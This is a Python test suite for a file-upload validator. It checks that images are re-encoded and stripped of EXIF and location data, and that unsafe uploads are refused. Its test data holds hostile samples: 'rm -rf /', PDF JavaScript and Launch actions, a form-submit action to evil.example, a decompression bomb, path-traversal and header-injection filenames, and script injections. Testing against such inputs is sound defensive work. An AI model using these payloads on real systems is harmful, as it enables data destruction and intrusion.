import io
import struct
import zlib

from hypothesis import strategies as st
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from odoo.tests import BaseCase

from ..engine import uploads
from .properties import given

PLACE = "31.2304 N, 121.4737 E"
HEAD = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
TAIL = b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def picture(form="JPEG", size=(40, 20), mode="RGB", **saved):
    stream = io.BytesIO()
    Image.new(mode, size, saved.pop("color", 0)).save(stream, form, **saved)
    return stream.getvalue()


def exif(orientation=1):
    tags = Image.Exif()
    tags[0x010F] = "Camera of Wang"
    tags[0x0112] = orientation
    tags[0x8825] = {1: "N", 2: (31.0, 13.0, 49.0)}
    return tags


def pdf(*parts):
    return HEAD + b"\n".join(parts) + TAIL


def packed(content, names=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"):
    return b"7 0 obj << %s >>\nstream\n%s\nendstream endobj" % (names, content)


def checked(*files, **limits):
    """Check ``(name, bytes)`` pairs as a form would give them."""
    readers = [(name, io.BytesIO(content).read) for name, content in files]
    return uploads.checked(readers, uploads.Limits(**limits))


class TestUploads(BaseCase):
    def _refused(self, content, name="a.pdf", **limits):
        with self.assertRaises(uploads.Refused) as caught:
            checked((name, content), **limits)
        self.assertEqual(caught.exception.name, name)
        return caught.exception.code

    # === WHAT IS LET IN === #

    def test_pictures_and_papers_are_let_in(self):
        forms = {"JPEG": "jpeg", "PNG": "jpeg", "WEBP": "jpeg", "GIF": "png"}
        for form, output in forms.items():
            with self.subTest(form):
                [taken] = checked(("a", picture(form)))
                self.assertEqual(taken.mimetype, f"image/{output}")
        [paper] = checked(("a.PDF", pdf()))
        self.assertEqual(
            (paper.name, paper.mimetype, paper.content),
            ("a.pdf", "application/pdf", pdf()),
        )

    def test_content_decides_and_not_the_name(self):
        [taken] = checked(("certificate.pdf", picture("PNG")))
        self.assertEqual(taken.name, "certificate.jpg")
        self.assertEqual(self._refused(b"MZ\x90\x00" + b"0" * 99, "a.pdf"), "kind")

    def test_what_could_act_or_hide_is_refused(self):
        for content in (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            b"<?xml version='1.0'?><svg/>",
            b"<!DOCTYPE html><script>alert(1)</script>",
            b"PK\x03\x04" + b"0" * 40,
            b"\x1f\x8b" + b"0" * 40,
            b"\x7fELF" + b"0" * 40,
            b"#!/bin/sh\nrm -rf /",
            b"BM" + b"0" * 40,
            b"II*\x00" + b"0" * 40,
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"GIF89x",
            b"just text",
        ):
            with self.subTest(content[:10]):
                self.assertEqual(self._refused(content), "kind")

    def test_kinds_that_a_form_does_not_take_are_refused(self):
        self.assertEqual(self._refused(pdf(), kinds=(uploads.PICTURE,)), "kind")
        self.assertEqual(self._refused(picture(), kinds=(uploads.PDF,)), "kind")

    def test_a_picture_of_a_phone_that_cannot_be_read_is_named(self):
        content = b"\x00\x00\x00\x18ftypheic" + b"0" * 40
        self.assertEqual(self._refused(content), "heic")

    @given(st.binary(max_size=300))
    def test_no_bytes_do_more_than_be_refused(self, content):
        for begin in (b"", b"%PDF-1.4\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"):
            try:
                checked(("a", begin + content))
            except uploads.Refused:
                continue

    # === HOW MUCH === #

    def test_size_and_number_are_bounded(self):
        self.assertEqual(self._refused(pdf(b"0" * 999), limit_bytes=1000), "large")
        with self.assertRaises(uploads.Refused) as caught:
            checked(*[("a.jpg", picture())] * 3, most=2)
        self.assertEqual(caught.exception.figures, {"limit": 2})

    def test_no_more_is_read_than_the_limit(self):
        asked = []

        def read(size):
            asked.append(size)
            return b"0" * size

        with self.assertRaises(uploads.Refused):
            uploads.checked([("a", read)], uploads.Limits(limit_bytes=1000))
        self.assertEqual(asked, [1001])

    def test_a_field_left_empty_is_no_file(self):
        self.assertEqual(checked(("", b""), (None, b"")), [])
        self.assertEqual(self._refused(b"", "a.pdf"), "empty")

    # === PICTURES === #

    def test_what_the_camera_noted_is_gone(self):
        content = picture(exif=exif(), comment=PLACE.encode())
        [taken] = checked(("a.jpg", content))
        self.assertNotIn(b"Camera of Wang", taken.content)
        self.assertNotIn(PLACE.encode(), taken.content)
        made = Image.open(io.BytesIO(taken.content))
        self.assertFalse(made.getexif())
        self.assertFalse({"exif", "comment", "icc_profile", "xmp"} & set(made.info))

    def test_a_picture_is_turned_upright_first(self):
        [taken] = checked(("a.jpg", picture(size=(40, 20), exif=exif(6))))
        self.assertEqual(Image.open(io.BytesIO(taken.content)).size, (20, 40))

    def test_what_hangs_behind_a_picture_is_gone(self):
        for form in ("JPEG", "PNG", "GIF"):
            [taken] = checked(("a", picture(form) + b"<script>alert(1)</script>"))
            self.assertNotIn(b"script", taken.content)

    def test_notes_within_a_png_are_gone(self):
        notes = PngInfo()
        notes.add_text("Author", "Wang Wei")
        notes.add_itxt("XML:com.adobe.xmp", PLACE)
        [taken] = checked(("a.png", picture("PNG", pnginfo=notes, mode="RGBA")))
        self.assertEqual(taken.mimetype, "image/png")
        self.assertNotIn(b"Wang", taken.content)
        self.assertNotIn(PLACE.encode(), taken.content)

    def test_a_huge_picture_is_refused_before_it_is_decoded(self):
        for side in (8_000, 2_000_000):
            self.assertEqual(self._refused(self._huge_png(side)), "pixels")

    def _huge_png(self, side):
        """Return a small PNG whose head says that it is huge."""
        head = b"IHDR" + struct.pack(">II", side, side) + b"\x08\x02\x00\x00\x00"
        check = struct.pack(">I", zlib.crc32(head))
        small = picture("PNG")
        return small[:12] + head + check + small[33:]

    def test_a_large_picture_is_made_smaller(self):
        [taken] = checked(("a.jpg", picture(size=(5000, 100))))
        made = Image.open(io.BytesIO(taken.content))
        self.assertLessEqual(max(made.size), uploads.MAX_SIDE)

    def test_a_damaged_picture_is_refused(self):
        for begin in (b"\xff\xd8\xff", b"GIF89a", b"\x89PNG\r\n\x1a\n"):
            self.assertEqual(self._refused(begin + b"0" * 99), "broken")

    @given(
        st.sampled_from(["1", "L", "LA", "P", "RGB", "RGBA", "I;16", "CMYK"]),
        st.sampled_from(["PNG", "JPEG", "WEBP", "GIF"]),
        st.integers(1, 30),
        st.integers(1, 30),
    )
    def test_every_kind_of_picture_keeps_its_size(self, mode, form, width, height):
        try:
            content = picture(form, (width, height), mode)
        except (OSError, ValueError, KeyError):
            return
        [taken] = checked(("a", content))
        self.assertEqual(Image.open(io.BytesIO(taken.content)).size, (width, height))

    # === PDF === #

    def test_a_pdf_that_acts_is_refused(self):
        for part in (
            b"<< /S /JavaScript /JS (app.alert(1)) >>",
            b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
            b"<</S/Launch/F(cmd.exe)>>",
            b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
            b"<< /Type /EmbeddedFile >>",
            b"<< /Subtype /RichMedia >>",
            b"<< /S /SubmitForm /F (http://evil.example) >>",
            b"<< /S /ImportData >>",
            b"<< /S /GoToE >>",
            b"<< /AcroForm << /XFA [ 1 0 R ] >> >>",
        ):
            with self.subTest(part):
                self.assertEqual(self._refused(pdf(part)), "active")

    def test_a_pdf_that_hides_what_acts_is_refused(self):
        action = b"8 0 << /S /JavaScript /JS (app.alert(1)) >>"
        deflated = zlib.compress(action)
        self.assertEqual(self._refused(pdf(packed(deflated))), "active")
        cut = deflated[:9] + b"endstream" + deflated[9:]
        self.assertIn(self._refused(pdf(packed(cut), b"/JavaScript ")), ("active",))
        stored = zlib.compress(b"endstream" + action, 0)
        self.assertEqual(self._refused(pdf(packed(stored))), "active")

    def test_objects_that_cannot_be_looked_into_are_refused(self):
        for names in (
            b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode",
            b"/Type /ObjStm /N 1 /First 4 /Filter [ /FlateDecode /FlateDecode ]",
            b"/Type /ObjStm /N 1 /First 4 /Filter 5 0 R",
            b"/N 1 /First 4 /Filter /LZWDecode",
            b"/Type /Obj#53tm /N 1 /First 4 /Filter /ASCIIHexDecode",
            b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /X (1 0 obj)",
        ):
            with self.subTest(names):
                content = pdf(packed(b"3c3c202f532f4a617661", names))
                self.assertEqual(self._refused(content), "packed")

    def test_a_pdf_with_a_password_is_refused(self):
        self.assertEqual(self._refused(pdf(b"trailer << /Encrypt 5 0 R >>")), "locked")

    def test_a_pdf_that_unfolds_to_too_much_is_refused(self):
        bomb = zlib.compress(b"0" * (uploads.MAX_UNFOLDED + 1), 9)
        self.assertEqual(self._refused(pdf(packed(bomb, b"/Filter 1"))), "packed")

    def test_a_pdf_made_to_be_read_over_and_over_is_refused(self):
        nested = b"\x00\x0c\x00\xf3\xff" + b"...stream\nx\x9c"
        content = pdf(b"stream\nx\x9c" + nested * 5000)
        self.assertEqual(self._refused(content), "packed")

    def test_a_pdf_cut_short_is_refused(self):
        self.assertEqual(self._refused(pdf()[:-12]), "broken")

    def test_ordinary_parts_of_a_pdf_are_let_in(self):
        text = zlib.compress(b"BT (Mill certificate 15 t) Tj ET")
        parts = (
            packed(zlib.compress(b"8 0 << /Type /Page >>")),
            packed(text, b"/Filter /FlateDecode"),
            packed(b"Gb!ZcYti", b"/Filter [ /ASCII85Decode /FlateDecode ]"),
            packed(picture(), b"/Subtype /Image /Filter /DCTDecode"),
            b"<< /OpenAction [ 3 0 R /Fit ] /S /URI >>",
            b"<< /Type /Outlines /First 4 0 R /N 1 >>",
        )
        self.assertEqual(len(checked(("a.pdf", pdf(*parts)))), 1)

    # === NAMES === #

    def test_names_are_cleaned(self):
        for given_name, clean in (
            ("../../etc/passwd", "passwd"),
            ("C:\\Users\\wang\\质保书 1.pdf", "质保书 1.pdf"),
            ("a\u202efdp.exe", "a fdp.exe"),
            ("a\r\nSet-Cookie: x", "a Set-Cookie x"),
            ("...", "file"),
            (None, "file"),
            ("<img src=x>.png", "img src=x .png"),
        ):
            with self.subTest(given_name):
                self.assertEqual(uploads.clean_name(given_name), clean)

    @given(st.text(max_size=300), st.sampled_from(["jpeg", "png", "pdf"]))
    def test_a_name_is_printable_bounded_and_ends_as_what_it_is(self, name, output):
        made = uploads.with_suffix(uploads.clean_name(name), output)
        self.assertTrue(made.isprintable())
        self.assertLessEqual(len(made), uploads.MAX_NAME)
        self.assertFalse(set(made) & set('/\\<>:"|?*'))
        self.assertTrue(made.endswith((".jpg", ".png", ".pdf")))
        self.assertNotIn(made[0], ". ")
